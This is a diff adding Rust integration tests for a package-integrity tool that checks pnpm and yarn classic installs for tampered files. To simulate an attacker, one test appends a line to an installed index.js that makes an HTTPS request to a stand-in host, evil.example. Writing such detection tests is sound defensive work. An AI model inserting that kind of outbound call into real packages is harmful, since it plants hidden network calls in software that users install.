@@ -767,3 +767,107 @@ fn malformed_trust_material_is_an_error() {
         String::from_utf8_lossy(&output.stdout)
     );
 }
+
+/// A package manager from `scripts/install-tools.sh`, or `None` (the test is skipped, as the
+/// gate's client tests do) when it is not installed.
+fn tool(name: &str) -> Option<PathBuf> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../.tools/bin")
+        .join(name);
+    if path.is_file() {
+        Some(path)
+    } else {
+        eprintln!("skipping {name}: not installed (run scripts/install-tools.sh)");
+        None
+    }
+}
+
+/// pnpm (store index of per-file SHA-512) and yarn classic (`.yarn-tarball.tgz` in its cache):
+/// a fresh install verifies clean, an edited file is reported by path.
+fn tamper_detection_with(client: &str) {
+    let Some(binary) = tool(client) else { return };
+    let (base, _) = start_registry(&attested());
+    let work = tempfile::tempdir().unwrap();
+    let project = work.path().join("app");
+    let home = work.path().join("home");
+    std::fs::create_dir_all(&project).unwrap();
+    std::fs::create_dir_all(&home).unwrap();
+    std::fs::write(
+        project.join("package.json"),
+        br#"{"name":"app","version":"1.0.0","dependencies":{"gundam-visor":"1.0.1","@trishankatdatadog/supreme-goggles":"1.0.5"}}"#,
+    )
+    .unwrap();
+    let mut command = Command::new(&binary);
+    command.current_dir(&project).env("HOME", &home).args([
+        "install",
+        "--registry",
+        &base,
+        "--ignore-scripts",
+    ]);
+    let cache = if client == "yarn1" {
+        command
+            .env("YARN_CACHE_FOLDER", work.path().join("yarn-cache"))
+            .arg("--no-progress");
+        work.path().join("yarn-cache/v6")
+    } else {
+        command.arg("--store-dir").arg(work.path().join("store"));
+        work.path().join("store/v10")
+    };
+    let output = command.output().unwrap();
+    assert!(
+        output.status.success(),
+        "{client} install: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let verify = || {
+        let output = bulwark(&[
+            "verify",
+            project.to_str().unwrap(),
+            "--cache-dir",
+            cache.to_str().unwrap(),
+            "--format",
+            "json",
+        ]);
+        (
+            output.status.code(),
+            serde_json::from_slice::<Value>(&output.stdout).unwrap(),
+        )
+    };
+    let (code, report) = verify();
+    assert_eq!(code, Some(0), "{report:#}");
+    let gundam = package(&report, "gundam-visor", "1.0.1");
+    assert_eq!(gundam["checks"]["tamper"], "passed", "{gundam:#}");
+    let installed = PathBuf::from(gundam["installed"][0].as_str().unwrap());
+    let installed = if installed.is_absolute() {
+        installed
+    } else {
+        project.join(installed)
+    };
+    let index = installed.join("index.js");
+    // pnpm hard-links installed files to its store: replace the file rather than edit it in
+    // place, as an attacker rewriting it would.
+    let mut contents = read(&index);
+    contents.extend_from_slice(b"\nrequire('https').get('https://evil.example/x');\n");
+    std::fs::remove_file(&index).unwrap();
+    std::fs::write(&index, contents).unwrap();
+    let (code, report) = verify();
+    assert_eq!(code, Some(1), "{report:#}");
+    let findings = &package(&report, "gundam-visor", "1.0.1")["findings"];
+    assert_eq!(findings[0]["kind"], "tampered", "{findings:#}");
+    assert_eq!(
+        findings[0]["changes"],
+        json!([{"path": "index.js", "kind": "modified"}])
+    );
+}
+
+/// pnpm 10: installed files against the store index.
+#[test]
+fn tamper_detection_after_a_pnpm_install() {
+    tamper_detection_with("pnpm10");
+}
+
+/// yarn 1: installed files against the tarball kept in its cache.
+#[test]
+fn tamper_detection_after_a_yarn_classic_install() {
+    tamper_detection_with("yarn1");
+}
